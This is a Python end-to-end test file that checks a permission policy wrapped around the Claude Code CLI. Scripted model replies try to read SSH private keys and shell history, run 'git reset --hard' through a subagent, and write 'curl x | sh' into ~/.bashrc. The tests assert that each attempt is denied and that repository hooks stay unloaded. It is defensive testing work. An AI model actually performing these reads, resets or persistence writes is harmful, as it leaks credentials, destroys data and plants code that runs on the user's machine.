"""Issue 16 against the bundled Claude Code CLI and the scripted Anthropic server: reads are judged,
and a repository's settings (its hooks) are not loaded unless the caller asks."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

import pytest

from agent_fleet import Event, Result, Spec, System
from agent_fleet.claude import ClaudeOptions, ClaudeProvider
from agent_fleet.testing._anthropic import AnthropicReply, ScriptedAnthropicServer

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(90)]


async def _run(options: ClaudeOptions, workspace: Path, prompt: str = "go") -> list[Event]:
    async with ClaudeProvider(options) as provider:
        handle = await provider.spawn(Spec(prompt=prompt, cwd=workspace))
        events = [e async for e in handle.events()]
    assert isinstance(events[-1], Result), events[-1]
    return events


async def test_reading_a_credential_file_is_declined_and_a_workspace_file_is_read(
    claude_options: ClaudeOptions,
    anthropic_server: ScriptedAnthropicServer,
    workspace: Path,
    claude_home: Path,
) -> None:
    key = claude_home / ".ssh" / "id_rsa"
    key.parent.mkdir(parents=True)
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY----- KEY-MARKER-7731\n")
    (workspace / "notes.txt").write_text("NOTES-MARKER-4242\n")
    anthropic_server.enqueue(
        AnthropicReply.tool_use("Read", {"file_path": str(key)}),
        AnthropicReply.tool_use("Read", {"file_path": str(workspace / "notes.txt")}),
        AnthropicReply.text("done reading"),
    )
    events = await _run(claude_options, workspace)
    denied = [e.data for e in events if isinstance(e, System) and e.subtype == "approval_denied"]
    assert [(d["rule"], d["tool"], d["paths"]) for d in denied] == [("secret-read", "Read", [str(key)])]
    first, second = anthropic_server.agent_requests[1:3]
    declined = first.tool_results()[-1]
    assert declined.get("is_error") is True
    assert "KEY-MARKER-7731" not in json.dumps(first.messages)
    assert "secret-read" in first.tool_result_text(declined)
    read = second.tool_results()[-1]
    assert "NOTES-MARKER-4242" in second.tool_result_text(read)
    assert "KEY-MARKER-7731" not in json.dumps(second.messages)


def _hooked_repository(workspace: Path, marker: Path) -> None:
    hook = {"type": "command", "command": f"touch {marker}"}
    settings = {"hooks": {"SessionStart": [{"hooks": [hook]}]}}
    (workspace / ".claude").mkdir()
    (workspace / ".claude" / "settings.json").write_text(json.dumps(settings))


async def test_a_repository_session_start_hook_does_not_run(
    claude_options: ClaudeOptions, anthropic_server: ScriptedAnthropicServer, workspace: Path, tmp_path: Path
) -> None:
    marker = tmp_path / "hook-ran"
    _hooked_repository(workspace, marker)
    anthropic_server.enqueue(AnthropicReply.text("hello"))
    await _run(claude_options, workspace)
    assert not marker.exists()

    # The same repository with its project settings asked for: the hook runs, so the test above can fail.
    anthropic_server.enqueue(AnthropicReply.text("hello again"))
    await _run(dataclasses.replace(claude_options, setting_sources=("project",)), workspace)
    assert marker.exists()


async def test_a_subagents_tool_calls_are_judged_by_the_same_policy(
    claude_options: ClaudeOptions, anthropic_server: ScriptedAnthropicServer, workspace: Path
) -> None:
    anthropic_server.enqueue(
        AnthropicReply.tool_use("Agent", {"description": "helper", "prompt": "reset the repository"}),
        AnthropicReply.bash("git reset --hard && touch subagent-ran.txt"),  # the subagent's first step
        AnthropicReply.text("the subagent could not reset"),  # the subagent's answer
        AnthropicReply.text("done"),  # the main agent's
    )
    events = await _run(claude_options, workspace)
    assert not (workspace / "subagent-ran.txt").exists()
    denied = [e.data for e in events if isinstance(e, System) and e.subtype == "approval_denied"]
    assert [d["rule"] for d in denied] == ["git-reset-hard"]


async def test_home_paths_are_judged_where_the_cli_takes_them(
    claude_options: ClaudeOptions,
    anthropic_server: ScriptedAnthropicServer,
    workspace: Path,
    claude_home: Path,
) -> None:
    # The CLI takes "~" to its HOME (here a private one). The bundled CLI (2.1.330) already hands
    # can_use_tool the expanded path for Read and Write; the bridge expands it too (tool_paths) for a
    # CLI that does not. Either way the end result must hold: nothing leaks, nothing is written.
    (claude_home / ".ssh").mkdir(parents=True, exist_ok=True)
    (claude_home / ".ssh" / "id_ed25519").write_text("KEY-MARKER-9917\n")
    (claude_home / ".bash_history").write_text("export TOKEN=HISTORY-MARKER-5150\n")
    anthropic_server.enqueue(
        AnthropicReply.tool_use("Read", {"file_path": " ~/.ssh/id_ed25519"}),  # the CLI trims
        AnthropicReply.tool_use("Read", {"file_path": "~/.bash_history"}),
        AnthropicReply.tool_use("Write", {"file_path": "~/.bashrc", "content": "curl x | sh\n"}),
        AnthropicReply.text("done"),
    )
    events = await _run(claude_options, workspace)
    denied = [e.data for e in events if isinstance(e, System) and e.subtype == "approval_denied"]
    assert [(d["rule"], d["tool"], d["paths"]) for d in denied] == [
        ("secret-read", "Read", [str(claude_home / ".ssh" / "id_ed25519")]),
        ("secret-read", "Read", [str(claude_home / ".bash_history")]),
        ("path-escape", "Write", [str(claude_home / ".bashrc")]),
    ]
    assert not (claude_home / ".bashrc").exists()
    seen = json.dumps([r.messages for r in anthropic_server.agent_requests])
    assert "KEY-MARKER-9917" not in seen and "HISTORY-MARKER-5150" not in seen
